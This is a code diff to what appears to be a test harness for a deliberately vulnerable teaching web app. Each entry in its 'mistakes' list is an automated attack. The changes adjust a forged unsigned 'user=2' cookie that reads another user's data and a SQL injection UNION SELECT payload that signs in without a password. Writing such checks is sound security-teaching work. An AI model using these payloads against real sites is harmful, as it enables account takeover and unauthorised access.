@@ -32,8 +32,12 @@ export async function toVictim(origin: string): Promise<Victim> {
     origin,
     cookie,
     send,
-    form: (path, fields) =>
-      send({ method: 'POST', path, headers: { ...own, ...isForm }, body: new URLSearchParams(fields).toString() }),
+    form: (path, fields) => {
+      // A sign-in with her cookies would end the session that they belong to.
+      const { Cookie, ...rest } = own
+      const headers = path === '/sign-in' ? { ...rest, ...isForm } : { Cookie, ...rest, ...isForm }
+      return send({ method: 'POST', path, headers, body: new URLSearchParams(fields).toString() })
+    },
     newPost: async () => {
       const fields = { title: 'To be attacked', body: 'Whatever.' }
       const { text } = await send({
@@ -149,9 +153,11 @@ export const mistakes: readonly Mistake[] = [
     },
   },
   {
-    title: 'the cookie has a default name and holds the number of the person, unsigned',
-    attack: async ({ send }) =>
-      (await send({ path: '/api/me', headers: { Cookie: 'connect.sid=2' } })).text.includes('grace@'),
+    title: 'a cookie holds the number of the person, and nobody looks at its signature',
+    attack: async ({ cookie, send }) =>
+      (await send({ path: '/api/me', headers: { Cookie: cookie.replace(/user=[^;]*/, 'user=2') } })).text.includes(
+        'grace@',
+      ),
   },
   {
     title: 'scripts can read the cookie, and other sites can send it',
@@ -197,7 +203,7 @@ export const mistakes: readonly Mistake[] = [
     title: 'a name signs in without a password (SQL injection)',
     attack: async ({ form }) => {
       const sha1 = '5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8'
-      const name = `' UNION SELECT 1, '', '', '${sha1}', '', '', '', '', '', 0 --`
+      const name = `' UNION SELECT '1', '', '', '${sha1}', '', '', '', '', '', '', '' --`
       return (await form('/sign-in', { name, password: 'password', next: '/' })).status === 303
     },
   },
